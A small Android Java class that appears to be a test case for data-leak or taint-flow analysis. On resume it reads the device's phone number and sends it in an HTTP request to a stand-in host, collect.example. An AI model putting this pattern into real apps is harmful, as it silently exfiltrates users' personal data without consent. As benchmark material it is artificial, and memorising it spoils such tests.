package org.example.flows.basic;

import android.app.Activity;
import android.os.Bundle;
import java.io.IOException;
import java.net.URL;
import java.net.URLConnection;
import java.net.URLEncoder;
import org.example.flows.Device;

public class InAddress extends Activity {
    @Override
    protected void onResume() {
        super.onResume();
        try {
            report(Device.phone(this).getLine1Number());
        } catch (IOException ignored) {
            finish();
        }
    }

    private void report(String number) throws IOException {
        StringBuilder address = new StringBuilder("http://collect.example/n?v=1");
        address.append("&n=").append(URLEncoder.encode(number, "UTF-8"));
        URL url = new URL(address.toString());
        URLConnection connection = url.openConnection();
        connection.getInputStream().close();
    }
}
